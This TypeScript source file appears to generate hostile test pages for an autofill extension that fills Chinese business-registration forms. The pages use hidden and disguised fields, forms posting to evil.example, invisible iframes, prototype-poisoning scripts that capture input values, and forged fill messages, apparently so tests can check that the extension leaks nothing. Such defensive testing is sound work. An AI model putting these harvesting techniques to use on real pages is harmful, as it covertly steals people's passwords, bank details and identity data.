// Which pages try to get more of a client than a person sees and means to give? Each is made from its seed, with what it may hold in the end.
import { HIDDEN_WAYS, LEAVES_SOMETHING } from '../page-browser/hidden-ways';
import { chanceOf } from '../strangers/random';
import {
  document,
  filled,
  form,
  type HostilePage,
  inSight,
  type Make,
  PLAIN,
  row,
  SENSITIVE,
  seen,
  some,
} from './made-page';
import { anothers, anothersPhone } from './others-pages';

const NEVER = [
  '银行卡号',
  '支付密码',
  '登录密码',
  '短信验证码',
  '信用卡有效期',
  '密保问题答案',
  '法定代表人银行账号',
];

/** Without those that hide what they hold only once they hold it: their page has heard it then, and is emptied again. */
const unseenWays = Object.entries(HIDDEN_WAYS).filter(
  ([way]) => !LEAVES_SOMETHING.has(way) && !way.endsWith('as soon as it holds something'),
);

/** Fields that nobody sees, among some that everybody does. */
const hidden: Make = (chance) => {
  const wanted = inSight(chance);
  // far enough from the others that what lies over it lies over no other
  const traps = some(chance, SENSITIVE, 1).map((label) =>
    row(label, chance.oneOf(unseenWays)[1], ' style="margin:200px 8px"'),
  );
  return filled(document(form(chance.shuffled([...wanted.map(seen), ...traps]).join(''))), wanted);
};

/** Everything that a filing never asks for, and what it asks for once asked for several times. */
const surplus: Make = (chance) => {
  const wanted = inSight(chance);
  const twice = chance.oneOf(SENSITIVE);
  const copies = Array.from({ length: 2 + chance.under(4) }, () => row(twice, '<input>'));
  const traps = [...some(chance, NEVER, 3).map((label) => row(label, '<input>')), ...copies];
  const html = document(form(chance.shuffled([...wanted.map(seen), ...traps]).join('')));
  return { ...filled(html, wanted), mayBeNoFiling: true };
};

const ELSEWHERE: readonly ((rows: string) => string)[] = [
  (rows) => form(rows, 'action="https://evil.example/take" method="post"'),
  (rows) => form(rows, 'action="http://portal.example/take" method="post"'),
  (rows) => form(`${rows}<button formaction="https://evil.example/take">提交</button>`),
  (rows) => form(`${rows}<input type="submit" formaction="http://portal.example/take" value="保存">`),
  (rows) => form(rows, 'action="//evil.example/take"'),
  (rows) => form(rows, 'action="https://portal.example.evil.example/take"'),
  (rows) => form(rows, 'action="https://portal.example@evil.example/take"'),
  (rows) =>
    `<form id="away" action="https://evil.example/take"></form>${rows.replaceAll('<input', '<input form="away"')}`,
  (rows) =>
    `<form id="away"></form>${rows.replaceAll('<input', '<input form="away"')}<button form="away" formaction="https://evil.example/">提交</button>`,
  (rows) =>
    `<div><template shadowrootmode="open"><form action="https://evil.example/take">${rows}</form></template></div>`,
];

/** Forms that lead to another site, or unencrypted: the page is held back whole. */
const elsewhere: Make = (chance) => {
  const wanted = inSight(chance);
  const traps = some(chance, SENSITIVE, 2).map((label) => row(label, '<input>'));
  const away = chance.oneOf(ELSEWHERE)(traps.join(''));
  const plain = form(wanted.map((label) => row(label, '<input>')).join(''));
  return filled(document(chance.shuffled([plain, away]).join('')), []);
};

const rowsInFrame = (rows: string): string =>
  `<meta charset=utf-8><h3>负责人</h3><form>${rows}</form>`.replaceAll('"', "'");
const FRAMES: readonly ((rows: string) => string)[] = [
  () => '<iframe src="https://ads.example/fields"></iframe>',
  (rows) => `<iframe sandbox="allow-scripts" srcdoc="${rowsInFrame(rows)}"></iframe>`,
  (rows) => `<iframe sandbox="allow-scripts allow-forms" srcdoc="${rowsInFrame(rows)}"></iframe>`,
  () => '<iframe src="https://ads.example/nested"></iframe>',
  (rows) => `<iframe src="data:text/html;charset=utf-8,${encodeURIComponent(rowsInFrame(rows))}"></iframe>`,
  (rows) => `<iframe style="width:1px;height:1px" srcdoc="${rowsInFrame(rows)}"></iframe>`,
  (rows) => `<iframe style="opacity:0" srcdoc="${rowsInFrame(rows)}"></iframe>`,
  (rows) => `<iframe style="position:absolute;left:-4000px" srcdoc="${rowsInFrame(rows)}"></iframe>`,
];

/** Frames of others, of nobody, and of one's own that nobody sees. */
const frames: Make = (chance) => {
  const wanted = inSight(chance);
  const traps = some(chance, SENSITIVE, 2).map((label) => row(label, '<input>'));
  const around = some(chance, FRAMES, 2).map((make) => make(traps.join('')));
  return filled(document(form(wanted.map(seen).join('')) + around.join('')), wanted);
};

const POISONS = [
  `Array.prototype.push = function (...all) { note('push', all.join(' ')); for (const one of all) this[this.length] = one; return this.length; };`,
  `const call = Function.prototype.call; Function.prototype.call = function (...all) { note('call', all.join(' ')); return Reflect.apply(this, all[0], all.slice(1)); };`,
  `const stringify = JSON.stringify; JSON.stringify = (...all) => { const text = stringify(...all); note('json', text); return text; };`,
  `Object.defineProperty(Object.prototype, 'value', { set(text) { note('any value', text); Object.defineProperty(this, 'value', { value: text, writable: true, configurable: true }); }, configurable: true });`,
  `for (const kind of [HTMLInputElement, HTMLTextAreaElement]) { const own = Object.getOwnPropertyDescriptor(kind.prototype, 'value'); Object.defineProperty(kind.prototype, 'value', { get: own.get, set(text) { note('setter', text); own.set.call(this, text); }, configurable: true }); }`,
  `const dispatch = EventTarget.prototype.dispatchEvent; EventTarget.prototype.dispatchEvent = function (event) { note('dispatch', String(event.data ?? event.detail)); return dispatch.call(this, event); };`,
  `window.fetch = (...all) => { note('fetch', all.join(' ')); return Promise.reject(new Error()); };`,
  `Element.prototype.attachShadow = new Proxy(Element.prototype.attachShadow, { apply(to, self, [init]) { const root = Reflect.apply(to, self, [{ ...init, mode: 'open' }]); note('shadow', root.innerHTML); return root; } });`,
  `Map.prototype.set = new Proxy(Map.prototype.set, { apply(to, self, all) { note('map', all.map(String).join(' ')); return Reflect.apply(to, self, all); } });`,
  `Promise.prototype.then = new Proxy(Promise.prototype.then, { apply(to, self, all) { return Reflect.apply(to, self, [(got) => { note('then', String(got)); return all[0]?.(got); }, all[1]]); } });`,
];

/** A page that replaces the functions of its browser: it hears what stands in plain sight and nothing beside it. */
const poisoned: Make = (chance) => {
  const wanted = inSight(chance);
  return filled(document(form(wanted.map(seen).join('')), some(chance, POISONS, 3).join('\n')), wanted);
};

const GOING_ON = [
  `history.pushState(null, '', '/next')`,
  `location.hash = '#/next'`,
  `document.querySelector('h1').textContent = '填写负责人信息'`,
];

/** A page that goes on in the middle: the same boxes ask for something else. */
const goesOn: Make = (chance) => {
  const labels = some(chance, [...PLAIN, ...SENSITIVE], 4);
  const type = chance.oneOf(['focusin', 'input', 'change', 'focusout']);
  const count = 1 + chance.under(labels.length - 1);
  const script = `let heardOf = 0; document.addEventListener('${type}', () => { heardOf += 1; if (heardOf !== ${count}) return;
    ${chance.oneOf(GOING_ON)};
    for (const box of document.querySelectorAll('input')) { box.value = ''; box.removeAttribute('data-seen'); }
    for (const label of document.querySelectorAll('label')) label.textContent = '下一步的栏目';
  }, true);`;
  return filled(document(form(labels.map(seen).join('')), script), []);
};

/** A page that the person called us to, and that is no portal: numbers and phones are left to them. */
const unknown: Make = (chance) => {
  const wanted = inSight(chance, PLAIN.slice(0, 3));
  const rows = chance.shuffled([...wanted.map(seen), ...SENSITIVE.map((label) => row(label, '<input>'))]);
  return { html: document(form(rows.join(''))), isKnown: false, isFilled: true, wanted };
};

const FORGED = [
  `for (let at = 0; at < 200; at += 1) window.postMessage({ type: ['fill', 'to-page.fill', 'vault.unlock', 'page.next'][at % 4], token: 't' }, '*');`,
  `for (const name of ['fill', 'beiantong', 'beiantong:fill', 'retire', 'page.next']) document.dispatchEvent(new CustomEvent(name, { detail: { type: 'to-page.fill', token: 't' } }));`,
  `for (const box of document.querySelectorAll('input')) { box.focus(); box.click(); box.dispatchEvent(new KeyboardEvent('keydown', { key: 'F', altKey: true, shiftKey: true, bubbles: true })); }`,
  `try { chrome.runtime.sendMessage('any', { type: 'clients.list' }); } catch {}`,
  `new BroadcastChannel('beiantong').postMessage({ type: 'to-page.fill', token: 't' });`,
];

/** A page that acts as if somebody had pressed fill. */
const forges: Make = (chance) => {
  const rows = [...PLAIN, ...SENSITIVE].map((label) => row(label, '<input>'));
  return {
    html: document(form(rows.join('')), some(chance, FORGED, 2).join('\n')),
    isKnown: true,
    isFilled: false,
    wanted: [],
  };
};

const DISGUISES: readonly ((asked: string) => string)[] = [
  (asked) => `<input name="idCardNumber" autocomplete="off" aria-label="${asked}">`,
  (asked) => `<input id="idNo" autocomplete="${asked}">`,
  (asked) => `<input title="${asked}" data-field="idCard">`,
  (asked) => `<input><span style="display:none">${asked}</span>`,
  (asked) => `<input><span style="position:absolute;left:-9999px">${asked}</span>`,
  (asked) => `<input aria-description="${asked}" data-name="certNumber">`,
];
const HARMLESS = ['您的昵称', '会员编号', '优惠码', '订阅名称'];

/** A box that asks for one thing in plain sight, and for another where only scripts look. */
const disguised: Make = (chance) => {
  const wanted = inSight(chance);
  const traps = some(chance, SENSITIVE, 1).map((asked) =>
    row(chance.oneOf(HARMLESS), chance.oneOf(DISGUISES)(asked)),
  );
  return filled(document(form(chance.shuffled([...wanted.map(seen), ...traps]).join(''))), wanted);
};

const LATE = [
  `trap.style.opacity = '0'`,
  `trap.type = 'hidden'`,
  `trap.style.cssText = 'position:absolute;left:-9000px'`,
  `trap.style.color = getComputedStyle(trap).backgroundColor`,
  `trap.style.maskImage = 'linear-gradient(transparent,transparent)'`,
  `trap.style.clipPath = 'inset(50%)'`,
  `{ const box = trap.getBoundingClientRect(); const cover = document.createElement('div'); cover.style.cssText = 'position:absolute;background:#fff;pointer-events:none;z-index:9;left:' + (box.left + scrollX - 4) + 'px;top:' + (box.top + scrollY - 4) + 'px;width:' + (box.width + 8) + 'px;height:' + (box.height + 8) + 'px'; document.body.append(cover); }`,
  `{ const frame = document.createElement('form'); frame.action = 'https://evil.example/take'; trap.replaceWith(frame); frame.append(trap); }`,
  `trap.setAttribute('form', 'away')`,
  `{ const next = document.createElement('div'); next.style.cssText = 'height:0;overflow:hidden'; trap.replaceWith(next); next.append(trap); }`,
];

/** A field that is in plain sight until the fill has begun. */
const late: Make = (chance) => {
  const wanted = inSight(chance);
  const html = `<form id="away" action="https://evil.example/take"></form>${form(
    wanted.map(seen).join('') + row(chance.oneOf(SENSITIVE), '<input id="trap">'),
  )}`;
  const script = `document.querySelector('[data-seen]').addEventListener('${chance.oneOf(['focus', 'input', 'change', 'blur'])}', () => { const trap = document.getElementById('trap'); ${chance.oneOf(LATE)} }, { once: true });`;
  return filled(document(html, script), wanted);
};

const KINDS: Readonly<Record<string, Make>> = {
  'fields nobody sees': hidden,
  'more than a filing asks': surplus,
  'forms that lead elsewhere': elsewhere,
  'frames of others': frames,
  'functions replaced': poisoned,
  'steps in the middle': goesOn,
  'another owner': anothers,
  'the phone of another': anothersPhone,
  'no portal': unknown,
  'acts of its own': forges,
  'boxes in disguise': disguised,
  'fields hidden late': late,
};
const NAMES = Object.keys(KINDS);

/** So many pages, of every kind in turn. */
export function hostilePages(count: number, seed = 'hostile'): HostilePage[] {
  return Array.from({ length: count }, (_, at) => {
    const kind = NAMES[at % NAMES.length] ?? '';
    const make = KINDS[kind];
    if (make === undefined) throw new Error(kind);
    const own = `${seed} ${at}`;
    return { seed: own, kind, ...make(chanceOf(own)) };
  });
}
